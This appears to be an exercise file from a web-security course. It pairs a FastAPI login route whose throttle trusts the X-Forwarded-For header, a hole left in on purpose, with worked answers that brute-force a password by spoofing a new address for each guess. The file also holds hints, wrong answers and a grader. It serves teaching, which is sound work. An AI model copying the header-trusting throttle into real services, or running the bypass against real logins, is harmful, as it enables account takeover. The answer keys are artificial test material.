"""A throttle that believes what a client says about its address."""

from fastapi import APIRouter, Request

from course.exercises.exercise import Exercise, Mistake
from course.judges.attacks import tried_on, tried_on_the_finished
from course.judges.trials import Trial, Trying
from microblog import reads
from microblog.dependencies import ReadEngine
from microblog.errors import TooManyRequests, Unauthorized
from microblog.schemas import Credentials, Token
from microblog.security import create_access_token

router = APIRouter()


@router.post("/login")
def log_in(request: Request, of: Credentials, engine: ReadEngine) -> Token:
    settings, throttle = request.app.state.settings, request.app.state.login_throttle
    address = request.headers.get("X-Forwarded-For", "")
    if seconds := throttle.seconds_to_wait(address, of.username):
        raise TooManyRequests("Too many failed logins. Wait a moment.", seconds)
    try:
        user = reads.authenticate(engine, of.username, of.password, settings)
    except Unauthorized:
        throttle.count_failure(address, of.username)
        raise
    token = create_access_token(user.username, user.hashed_password, settings)
    return Token(access_token=token)


WORDS = [f"summer-{year}" for year in range(1990, 2030)]


def try_word(number: int) -> Trial:
    word = WORDS[number - 1]
    shown = f"The password of keiko is the word number {number}."
    return tried_on(shown, router, lambda _: word, ("keiko", WORDS), password=word)


EXERCISE = Exercise(
    title="A thousand addresses",
    minutes=6,
    objective="guess a password, and say what stops the guessing",
    task="""This draft has a throttle, ten failures a minute for each name and address. No
proxy is in front of it, and it takes the address from a header:

```python
address = request.headers.get("X-Forwarded-For", "")
```

Write `attack(api, username, words)`: it tries the 40 words at `POST /login`, which takes
`{"username": …, "password": …}` as JSON, and returns the one that lets it in.""",
    starter="""def attack(api, username, words):
    # your code here
    ...


answer = ...  # then: attack""",
    hints=(
        "Who writes the headers of a request?",
        "`api.post` takes `headers=`, a dict. What must differ from guess to guess, so that the "
        "throttle takes each for the first guess of a new client?",
        'In the loop: `headers = {"X-Forwarded-For": f"10.0.0.{number}"}` with the number of '
        'the guess, then `api.post("/login", json=guess, headers=headers)`, and return the '
        "word when the status is 200.",
    ),
    imports="",
    answers=(
        """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess, headers=headers).status_code == 200:
            return word
    return None
""",
        """
def attack(api, username, words):
    def opens(word):
        guess = {"username": username, "password": word}
        return api.post("/login", json=guess, headers={"X-Forwarded-For": word}).is_success

    return next(filter(opens, words), None)
""",
    ),
    mistakes=(
        Mistake(
            "one address",
            """
def attack(api, username, words):
    for word in words:
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess).status_code == 200:
            return word
""",
            "After ten wrong guesses every answer is 429: to the throttle, all your guesses come "
            "from one address. Where does this draft take the address from, and who writes it?",
        ),
        Mistake(
            "429 taken for success",
            """
def attack(api, username, words):
    for word in words:
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess).status_code != 401:
            return word
""",
            "You return the eleventh word, but it didn't let you in: it was answered with 429, "
            "which is a refusal too. After ten wrong guesses the throttle refuses everything.",
        ),
        Mistake(
            "the first ten",
            """
def attack(api, username, words):
    for word in words[:10]:
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess).status_code == 200:
            return word
""",
            "All your guesses were answered with 401, a wrong password, and you stopped before "
            "you came to the right one. Try all the words.",
        ),
        Mistake(
            "a form",
            """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"username": username, "password": word}
        if api.post("/login", data=guess, headers=headers).status_code == 200:
            return word
""",
            "The login takes its body as JSON, and answers a form with 422. Pass your dict as "
            "json=, not as data=.",
        ),
        Mistake(
            "the number",
            """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess, headers=headers).status_code == 200:
            return number
""",
            "You return the position of the right word in the list. Return the word.",
        ),
    ),
    judge=Trying(
        [
            *(try_word(number) for number in (5, 32)),
            tried_on_the_finished(lambda _: WORDS[31], ("keiko", WORDS), password=WORDS[31]),
        ]
    ),
    praise="40 words from 40 addresses. The finished service takes the connection's address.",
)
